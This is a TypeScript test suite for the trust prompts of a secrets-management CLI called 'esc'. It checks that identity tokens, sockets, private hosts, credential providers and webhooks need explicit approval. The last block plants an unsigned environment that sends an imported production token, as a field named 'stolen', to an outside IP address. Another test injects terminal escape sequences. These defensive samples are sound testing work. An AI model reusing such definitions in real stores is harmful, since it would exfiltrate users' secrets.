import { appendFileSync, existsSync, mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expect } from 'chai'
import type { Plain } from '../../../src/plain.ts'
import { definitionOf } from '../../crash-matrix/subject.ts'
import { httpVendor } from '../../rotators/issued/issued-vendors.ts'
import { Receiver } from '../../webhooks/receiver.ts'
import { Playground, type RunOptions } from './esc.ts'

const issuer = 'https://esc.example.org'
const login = {
  values: { cloud: { 'fn::open::azure-login': { clientId: 'c', tenantId: 't', oidc: true } } },
}
/** Somebody sits there and types this. */
const typing = (input: string): RunOptions => ({ input, io: { stdinIsTerminal: true, stderrIsTerminal: true } })

describe('esc trust', function () {
  this.timeout(20_000)
  let esc: Playground
  beforeEach(async () => {
    esc = new Playground()
    await esc.ok('init')
  })
  afterEach(() => esc.remove())

  const configure = (text: string) => appendFileSync(join(esc.store, 'esc.yaml'), text)
  const json = async (...words: string[]) => JSON.parse(await esc.ok(...words, '--output', 'json'))

  it('has nothing to ask about a store of plain values and secrets of one’s own', async () => {
    await esc.withEnvironment(
      'app/dev',
      '{"values": {"a": 1, "b": {"fn::secret": "x"}, "c": {"fn::rotate::password": {"inputs": {}}}}}',
    )
    await esc.ok('env', 'rotate', 'app/dev')
    await esc.ok('env', 'open', 'app/dev')
    expect(await esc.ok('trust')).to.include('asks for nothing that has to be allowed')
    expect(await json('trust', 'show')).to.include({ trusted: true, accepted: null })
    expect(existsSync(join(esc.folder, 'config', 'state', 'trust')), 'nothing is written either').to.equal(false)
  })

  it('asks when something is needed, shows what, and remembers the answer', async () => {
    await esc.withEnvironment('app/dev', JSON.stringify(login))
    configure(`oidc: {issuer: ${issuer}}\n`)
    const refused = await esc.run(['env', 'open', 'app/dev'], typing('n\n'))
    expect(refused.code).to.equal(1)
    expect(refused.err)
      .to.include(`asks to:\n`)
      .and.include(`  sign identity tokens as issuer ${issuer}\n`)
      .and.include("  use this machine's identity (oidc.key, or a token of its system) as organization local\n")
      .and.match(/Digest: sha256:[0-9a-f]{64}\nAllow this on this machine\? \[y\/N\] /)
      .and.include('this machine has not allowed the store to sign identity tokens')
      .and.not.include('A new key was made')
    const allowed = await esc.run(['env', 'open', 'app/dev'], typing('y\n'))
    expect(allowed.code, allowed.err).to.equal(0)
    const again = await esc.run(['env', 'open', 'app/dev'])
    expect(again, 'and nobody is there').to.include({ code: 0 })
    expect(again.err).to.not.include('Allow')
  })

  it('asks one question, however many values need the same', async () => {
    const values = Object.fromEntries([1, 2, 3].map((each) => [`cloud${each}`, login.values.cloud]))
    await esc.withEnvironment('app/dev', JSON.stringify({ values }))
    configure(`oidc: {issuer: ${issuer}}\n`)
    const { err } = await esc.run(['env', 'open', 'app/dev'], typing('n\ny\n'))
    expect(err.match(/Allow this/g)).to.have.lengthOf(1)
  })

  it('lets rotators use a unix socket, whose server may know the user, only where it was allowed', async () => {
    const socket = join(esc.folder, 'mysqld.sock')
    const database = { host: socket, port: 3306, database: 'app', managingUser: { username: 'root' } }
    const inputs = { database, rotateUsers: { username1: 'a', username2: 'b' } }
    await esc.withEnvironment('app/dev', JSON.stringify({ values: { db: { 'fn::rotate::mysql': { inputs } } } }))
    const unasked = await esc.run(['env', 'rotate', 'app/dev'], typing('y\n'))
    expect(unasked.out + unasked.err)
      .to.include(`the store may not let rotators use the unix socket ${socket}, as you`)
      .and.include('`allow: {sockets}`')
    configure(`allow: {sockets: [${JSON.stringify(socket)}]}\n`)
    const refused = await esc.run(['env', 'rotate', 'app/dev'])
    expect(refused.out + refused.err).to.include('this machine has not allowed the store')
    const allowed = await esc.run(['env', 'rotate', 'app/dev'], typing('y\n'))
    expect(allowed.err).to.include(`  let rotators use the unix socket ${socket}, as you\n`)
    expect(allowed.out, 'nobody listens there').to.include('ENOENT')
  })

  it('sends what a definition holds to an API that issues credentials only where its host was allowed', async () => {
    const vendor = await httpVendor()
    try {
      configure('network: {privateHosts: [127.0.0.1]}\n')
      await esc.ok('trust', '--yes')
      const { url } = vendor.inputs
      await esc.withEnvironment('app/dev', definitionOf('http-issued', vendor.inputs as Plain))
      const refused = await esc.run(['env', 'rotate', 'app/dev'])
      expect(refused.code).to.equal(1)
      expect(refused.out + refused.err).to.include(`send what its definitions hold to ${vendor.fake.url}`)
      expect(vendor.fake.calls, 'before it was allowed').to.deep.equal([])
      const allowed = await esc.run(['env', 'rotate', 'app/dev'], typing('y\n'))
      expect(allowed.code, allowed.out + allowed.err).to.equal(0)
      expect(vendor.ids()).to.have.length(1)

      const calls = vendor.fake.calls.length
      const elsewhere = { ...vendor.inputs, url: url.replace('127.0.0.1', 'localhost') }
      await esc.withEnvironment('app/other', definitionOf('http-issued', elsewhere as Plain))
      const said = async (environment: string) => Object.values(await esc.run(['env', 'rotate', environment])).join('')
      expect(await said('app/other')).to.include('this machine has not allowed')
      // What is put together while it is opened could not be shown before.
      const hidden = JSON.parse(definitionOf('http-issued', { ...vendor.inputs, url: '${address}' } as Plain))
      Object.assign(hidden.values, { address: url.replace('127.0.0.1', '127.0.0.2') })
      await esc.withEnvironment('app/hidden', JSON.stringify(hidden))
      await esc.ok('trust', '--yes')
      expect(await said('app/hidden')).to.include('since no definition says so')
      expect(vendor.fake.calls).to.have.length(calls)
    } finally {
      await vendor.stop()
    }
  })

  it('takes nothing but y or yes for yes', async () => {
    await esc.withEnvironment('app/dev', JSON.stringify(login))
    configure(`oidc: {issuer: ${issuer}}\n`)
    for (const answer of ['', 'n', 'no', 'ye', 'yes please', 'Y n', 'ok']) {
      const { code } = await esc.run(['trust'], typing(`${answer}\n`))
      expect(code, answer).to.equal(1)
    }
    expect(await json('trust', 'list')).to.deep.equal({ stores: [] })
    expect((await esc.run(['trust'], typing(' YES \n'))).code).to.equal(0)
  })

  it('is a typed error with the digest where nobody is there', async () => {
    await esc.withEnvironment('app/dev', JSON.stringify(login))
    configure(`oidc: {issuer: ${issuer}}\n`)
    const { digest } = await json('trust', 'show')
    for (const words of [
      ['env', 'open', 'app/dev'],
      ['open', 'app/dev', '--format', 'dotenv'],
    ]) {
      const { code, err } = await esc.run(words)
      expect(code).to.equal(1)
      expect(err).to.include(
        `hint: look at what the store asks for and accept it with "esc trust"; in CI, set ESC_TRUST=${digest}`,
      )
    }
    const unattended = await esc.run(['trust', '--output', 'json'])
    expect(JSON.parse(unattended.out).error).to.include({ code: 'untrusted' })
    expect(unattended.err).to.include('sign identity tokens').and.include('nobody is there to ask')
  })

  it('asks again for what is new, and shows the difference', async () => {
    configure('network: {privateHosts: [one.internal, two.internal]}\n')
    await esc.ok('trust', '--yes')
    expect((await json('trust', 'show')).trusted).to.equal(true)
    const file = join(esc.store, 'esc.yaml')
    writeFileSync(file, readFileSync(file, 'utf8').replace('two.internal', 'three.internal'))
    const { out } = await esc.run(['trust', 'show'])
    expect(out)
      .to.include('asks to do other things than you allowed on 2026-03-04:')
      .and.match(/^ {4}let rotators call one\.internal/m)
      .and.match(/^ {2}\+ let rotators call three\.internal/m)
      .and.match(/^ {2}- let rotators call two\.internal/m)
    const shown = await json('trust', 'show')
    expect(shown.trusted).to.equal(false)
    expect(shown.added).to.deep.equal([{ kind: 'privateHost', value: 'three.internal' }])
    expect(shown.removed).to.deep.equal([{ kind: 'privateHost', value: 'two.internal' }])
  })

  it('does not ask again for what was allowed when the store asks for more elsewhere', async () => {
    await esc.withEnvironment('app/dev', JSON.stringify(login))
    configure(`oidc: {issuer: ${issuer}}\n`)
    await esc.ok('trust', '--yes')
    configure('network: {privateHosts: [one.internal]}\n')
    await esc.ok('env', 'open', 'app/dev')
  })

  it('accepts a digest, and only that of what the store asks for', async () => {
    configure('network: {privateHosts: [one.internal]}\n')
    const { digest } = await json('trust', 'show')
    expect((await esc.run(['trust', '--digest', 'sha256:12'])).code).to.equal(2)
    const other = await esc.run(['trust', '--digest', `sha256:${'0'.repeat(64)}`])
    expect(other).to.include({ code: 1 })
    expect(other.err).to.include(digest)
    await esc.ok('trust', '--digest', digest.slice('sha256:'.length).toUpperCase())
    expect((await json('trust', 'list')).stores[0]).to.include({ digest, store: esc.store })
  })

  it('obeys ESC_TRUST alone where it is set', async () => {
    await esc.withEnvironment('app/dev', JSON.stringify(login))
    configure(`oidc: {issuer: ${issuer}}\n`)
    await esc.ok('trust', '--yes')
    const { digest } = await json('trust', 'show')
    const with_ = (ESC_TRUST: string) => esc.run(['env', 'open', 'app/dev'], { ...typing('y\n'), env: { ESC_TRUST } })
    expect(await with_(digest)).to.include({ code: 0 })
    const other = await with_(`sha256:${'0'.repeat(64)}`)
    expect(other.code).to.equal(1)
    expect(other.err).to.include('ESC_TRUST allows sha256:000').and.not.include('Allow this')
    expect((await with_('yes')).err).to.include('ESC_TRUST is not a digest: "yes"')
    configure('network: {privateHosts: [one.internal]}\n')
    expect((await with_(digest)).code, 'another set').to.equal(1)
  })

  it('belongs to the folder of the store: a copy elsewhere asks, and links lead to the same', async () => {
    configure('network: {privateHosts: [one.internal]}\n')
    await esc.ok('trust', '--yes')
    const moved = join(esc.folder, 'moved')
    mkdirSync(moved)
    renameSync(esc.store, join(moved, 'environments'))
    const { out } = await esc.run(['trust', 'show', '--output', 'json', '--store', moved])
    expect(JSON.parse(out).trusted).to.equal(false)
    expect(await esc.ok('trust', 'revoke', esc.store)).to.include('is allowed nothing any more')
    expect(await esc.ok('trust', 'revoke', '--all')).to.include('Nothing was allowed')
  })

  it('shows texts of the store without letting them write to the terminal', async () => {
    configure('network: {privateHosts: ["\\e[2Kharmless\\u202e\\x07\\r"]}\n')
    const { out } = await esc.run(['trust', 'show'])
    expect(out).to.include('\\u001b[2Kharmless\\u202e\\u0007\\u000d')
    expect(out.replaceAll('\n', '')).to.not.match(/[\u0000-\u001f\u202e]/)
  })

  it('does not choose the place where it is remembered by anything in the store', async () => {
    configure('network: {privateHosts: [one.internal]}\n')
    await esc.ok('trust', '--yes')
    expect(esc.digest(esc.store)).to.equal(esc.digest(esc.store))
    expect(existsSync(join(esc.folder, 'config', 'state', 'trust'))).to.equal(true)
    rmSync(join(esc.store, '.esc'), { recursive: true, force: true })
    expect((await json('trust', 'show')).trusted).to.equal(true)
  })
})

describe('the identity key', function () {
  this.timeout(20_000)
  let esc: Playground
  beforeEach(() => {
    esc = new Playground()
  })
  afterEach(() => esc.remove())

  /**
   * A store that logs in with a token of the identity key; its issuer is allowed, and nothing more.
   */
  async function storeAt(name: string, organization = 'acme'): Promise<string> {
    const folder = join(esc.folder, name)
    await esc.ok('init', folder, '--organization', organization)
    const made = await esc.run(['env', 'init', 'app/dev', '--file', '-', '--store', folder], {
      input: JSON.stringify(login),
    })
    expect(made.code, made.err).to.equal(0)
    appendFileSync(join(folder, 'esc.yaml'), `oidc: {issuer: ${issuer}}\n`)
    return folder
  }
  /** Allows everything but the key. */
  async function allowIssuer(folder: string): Promise<void> {
    await esc.ok('trust', '--yes', '--store', folder)
    const state = join(esc.folder, 'config', 'state', 'trust')
    for (const { store } of JSON.parse(await esc.ok('trust', 'list', '--output', 'json')).stores) {
      if (store !== folder) continue
      const { storeIdentity } = await import('../../../src/machine/index.ts')
      const file = join(state, `${storeIdentity(folder)}.json`)
      const decision = JSON.parse(readFileSync(file, 'utf8'))
      decision.powers = decision.powers.filter(({ kind }: { kind: string }) => kind !== 'identity')
      writeFileSync(file, JSON.stringify(decision))
    }
  }
  const open = (folder: string, env: Record<string, string> = {}) =>
    esc.run(['env', 'open', 'app/dev', '--store', folder], { env })

  it('belongs to the first store that uses it; another one asks', async () => {
    const [one, two] = [await storeAt('one'), await storeAt('two')]
    for (const folder of [one, two]) await allowIssuer(folder)
    await esc.ok('oidc', 'jwks')
    for (let round = 0; round < 2; round++) {
      expect(await open(one)).to.include({ code: 0 })
      const { code, err } = await open(two)
      expect(code).to.equal(1)
      expect(err).to.include(
        "has not allowed the store to use this machine's identity (oidc.key, or a token of its system) as organization acme",
      )
    }
    await esc.ok('trust', '--yes', '--store', two)
    expect(await open(two), 'once it was allowed').to.include({ code: 0 })
    expect(await open(one), 'and the first one keeps it').to.include({ code: 0 })
  })

  it('asks again when its store speaks for another organization', async () => {
    const one = await storeAt('one')
    await allowIssuer(one)
    expect(await open(one)).to.include({ code: 0 })
    const file = join(one, 'esc.yaml')
    writeFileSync(file, readFileSync(file, 'utf8').replace('acme', 'victim'))
    expect((await open(one)).err).to.include('as organization victim')
  })

  it('asks when its file was there before anybody knew whose it is', async () => {
    const one = await storeAt('one')
    await allowIssuer(one)
    await esc.ok('oidc', 'jwks')
    rmSync(join(esc.folder, 'config', 'state', 'trust', 'identity'), { recursive: true })
    expect((await open(one)).code).to.equal(1)
    await esc.ok('trust', '--yes', '--store', one)
    expect(await open(one)).to.include({ code: 0 })
  })

  it('of ESC_OIDC_KEY is the choice of the user for the first store, and no other', async () => {
    const [one, two] = [await storeAt('one'), await storeAt('two')]
    for (const folder of [one, two]) await allowIssuer(folder)
    await esc.ok('oidc', 'jwks')
    const ESC_OIDC_KEY = readFileSync(join(esc.folder, 'config', 'oidc.key'), 'utf8')
    rmSync(join(esc.folder, 'config', 'oidc.key'))
    rmSync(join(esc.folder, 'config', 'state', 'trust', 'identity'), { recursive: true })
    expect(await open(one, { ESC_OIDC_KEY })).to.include({ code: 0 })
    expect((await open(two, { ESC_OIDC_KEY })).code).to.equal(1)
  })
})

describe('what esc.yaml and settings.yaml say about hosts', function () {
  this.timeout(20_000)
  let esc: Playground
  beforeEach(async () => {
    esc = new Playground()
    await esc.ok('init')
  })
  afterEach(() => esc.remove())
  const configure = (text: string) => appendFileSync(join(esc.store, 'esc.yaml'), text)

  describe('that get credentials for keys', () => {
    let server: Server
    let requests: string[]
    let url: string
    const env = {
      AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
      AWS_SECRET_ACCESS_KEY: 'x',
      AWS_SESSION_TOKEN: 't0ken-canary',
    }
    beforeEach(async () => {
      requests = []
      server = createServer((request, answer) => {
        requests.push(JSON.stringify(request.headers))
        answer.writeHead(400).end('{}')
      })
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
      const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
      url = `awskms://alias/app?region=eu-west-1&endpoint=${encodeURIComponent(origin)}`
    })
    afterEach(() => new Promise((resolve) => server.close(resolve)))

    it('counts for nothing before it was allowed, in an environment or for the store', async () => {
      await esc.withEnvironment('app/dev', '{"values": {"a": {"fn::secret": "s3cret"}}}')
      const settings = join(esc.store, 'app/dev', 'settings.yaml')
      const sound = readFileSync(settings, 'utf8')
      writeFileSync(settings, sound.replace('secretsProvider: default', `secretsProvider: ${url}`))
      for (const words of [
        'env open app/dev',
        'env get app/dev --show-secrets',
        'env set app/dev b 2',
        'env rotate app/dev',
      ]) {
        const { code, out, err } = await esc.run(words.split(' '), { env })
        expect(code, words + out).to.equal(1)
        expect(out + err, words).to.include('send your credentials for a secrets provider to http://127.0.0.1:')
      }
      writeFileSync(settings, sound)
      const configuration = join(esc.store, 'esc.yaml')
      writeFileSync(
        configuration,
        readFileSync(configuration, 'utf8').replace('secretsProvider: default', `secretsProvider: ${url}`),
      )
      const made = await esc.run(['env', 'init', 'app/new', '--file', '-'], {
        env,
        input: '{"values": {"a": {"fn::secret": "x"}}}',
      })
      expect(made.out + made.err).to.include('send your credentials')
      expect(requests).to.deep.equal([])
    })

    it('counts when it was allowed', async () => {
      await esc.withEnvironment('app/dev', '{"values": {"a": {"fn::secret": "s3cret"}}}')
      const settings = join(esc.store, 'app/dev', 'settings.yaml')
      const wrapped = `v1:awskms:arn:aws:kms:eu-west-1:123456789012:key/1234:${Buffer.from('x').toString('base64')}`
      writeFileSync(
        settings,
        readFileSync(settings, 'utf8')
          .replace('secretsProvider: default', `secretsProvider: ${url}`)
          .replace(/wrappedDataKey: .*/, `wrappedDataKey: ${wrapped}`),
      )
      // A machine that has seen no other key of the environment.
      rmSync(join(esc.store, '.esc'), { recursive: true, force: true })
      const fresh = { ...env, ESC_CONFIG_HOME: join(esc.folder, 'fresh') }
      expect((await esc.run(['env', 'open', 'app/dev'], { env: fresh })).code).to.equal(1)
      expect(requests).to.deep.equal([])
      await esc.run(['trust', '--yes'], { env: fresh })
      const { err } = await esc.run(['env', 'open', 'app/dev'], { env: fresh })
      expect(requests, err).to.not.deep.equal([])
    })

    it('counts when the user has typed it', async () => {
      for (const words of [
        ['env', 'init', 'app/dev', '--secrets-provider', url, '--file', '-'],
        ['env', 'change-secrets-provider', 'app/other', url],
      ]) {
        requests = []
        if (words[1] === 'change-secrets-provider') await esc.withEnvironment('app/other', '{"values": {"a": 1}}')
        const { err } = await esc.run(words, { env, input: '{"values": {"a": {"fn::secret": "x"}}}' })
        expect(requests, err).to.not.deep.equal([])
      }
      // What answers there is no KMS, so both failed; a host is remembered only once it has served.
      const { stores } = JSON.parse(await esc.ok('trust', 'list', '--output', 'json'))
      expect(stores).to.deep.equal([])
    })
  })

  it('that webhooks may reach counts when it was allowed', async () => {
    const receiver = await new Receiver().start()
    try {
      await esc.withEnvironment('app/dev', '{"values": {"a": 1}}')
      configure(`webhooks: {allow: ["${receiver.host}"]}\n`)
      const words = ['env', 'webhook', 'new', 'app/dev', 'x', '--url', receiver.url]
      const refused = await esc.run(words)
      expect(refused.code).to.equal(1)
      expect(refused.err).to.include(`let webhooks reach ${receiver.host}`)
      await esc.ok('trust', '--yes')
      await esc.ok(...words)
      await esc.ok('trust', 'revoke')
      await esc.run(['env', 'webhook', 'ping', 'app/dev', 'hook-1'])
      await esc.ok('env', 'set', 'app/dev', 'b', '2')
      await esc.run(['env', 'webhook', 'deliver'])
      expect(receiver.received, 'not allowed any more').to.deep.equal([])
      const deliveries = JSON.parse(
        await esc.ok('env', 'webhook', 'delivery', 'list', 'app/dev', 'hook-1', '--output', 'json'),
      )
      expect(JSON.stringify(deliveries)).to.include('it was not allowed on this machine')
      await esc.ok('trust', '--yes')
      await esc.ok('env', 'webhook', 'ping', 'app/dev', 'hook-1')
      expect(receiver.received).to.have.lengthOf(1)
    } finally {
      await receiver.stop()
    }
  })
})

describe('an environment without a key', function () {
  this.timeout(20_000)
  let esc: Playground
  beforeEach(async () => {
    esc = new Playground()
    await esc.ok('init')
    await esc.withEnvironment('credentials/prod', '{"values": {"token": {"fn::secret": "t0ken-canary"}}}')
  })
  afterEach(() => esc.remove())

  /** As somebody writes it who has no key. */
  function plant(name: string, definition: string): void {
    const folder = join(esc.store, name)
    mkdirSync(join(folder, 'revisions'), { recursive: true })
    writeFileSync(join(folder, 'settings.yaml'), 'id: 11111111-2222-4333-8444-555555555555\nsecretsProvider: default\n')
    writeFileSync(join(folder, 'environment.yaml'), definition)
    const record = "revision: 1\ncreated: 2026-03-04T05:06:07.000Z\nauthor: 'M <m@example.com>'\nchange: create\n"
    writeFileSync(join(folder, 'revisions', '1.yaml'), `${record}---\n${definition}`)
  }
  const sends = `imports: [credentials/prod]
values:
  out:
    fn::rotate::external: {inputs: {url: "https://203.0.113.7/", request: {stolen: "\${token}"}}}
`

  it('opens its plain values', async () => {
    plant('app/plain', 'values: {a: 1}\n')
    expect(JSON.parse(await esc.ok('env', 'open', 'app/plain'))).to.deep.equal({ a: 1 })
  })

  it('rotates nothing, and gets no key by that', async () => {
    plant('app/evil', sends)
    for (const flags of [[], ['--plan'], ['--force']]) {
      const { code, err } = await esc.run(['env', 'rotate', 'app/evil', ...flags])
      expect(code).to.equal(1)
      expect(err)
        .to.include("environment 'app/evil' has no key, so nothing says who wrote its definition")
        .and.include('hint: review it with "esc env get app/evil"')
    }
    expect(readFileSync(join(esc.store, 'app/evil', 'settings.yaml'), 'utf8')).to.not.include('wrappedDataKey')
  })

  it('calls no provider, and gives no other environment what it calls one with', async () => {
    plant('app/evil', 'values: {who: me, x: {fn::open::gcp-login: {project: 1, accessToken: {accessToken: x}}}}\n')
    expect((await esc.run(['env', 'open', 'app/evil'])).err).to.include('has no key')
    const importing =
      'imports: [app/evil]\nvalues: {y: {fn::open::azure-login: {clientId: "${who}", tenantId: t, clientSecret: {fn::secret: x}}}}\n'
    await esc.run(['env', 'init', 'app/victim', '--file', '-'], { input: importing })
    expect((await esc.run(['env', 'open', 'app/victim'])).err).to.include("'app/evil' has no key")
  })

  it('rotates secrets that are generated here, which sends nothing anywhere', async () => {
    plant('app/generated', 'values: {p: {fn::rotate::password: {inputs: {length: 20}}}}\n')
    await esc.ok('env', 'rotate', 'app/generated')
    expect(JSON.parse((await esc.run(['env', 'open', 'app/generated'])).out)).to.have.nested.property('p.current')
  })

  it('is like any other once its user has reviewed and saved it', async () => {
    plant('app/mine', 'values: {x: {fn::open::gcp-login: {project: 1, accessToken: {accessToken: x}}}}\n')
    expect((await esc.run(['env', 'open', 'app/mine'])).err).to.include('has no key')
    await esc.ok('env', 'edit', 'app/mine', '--file', join(esc.store, 'app/mine', 'environment.yaml'))
    await esc.ok('env', 'open', 'app/mine')
  })
})
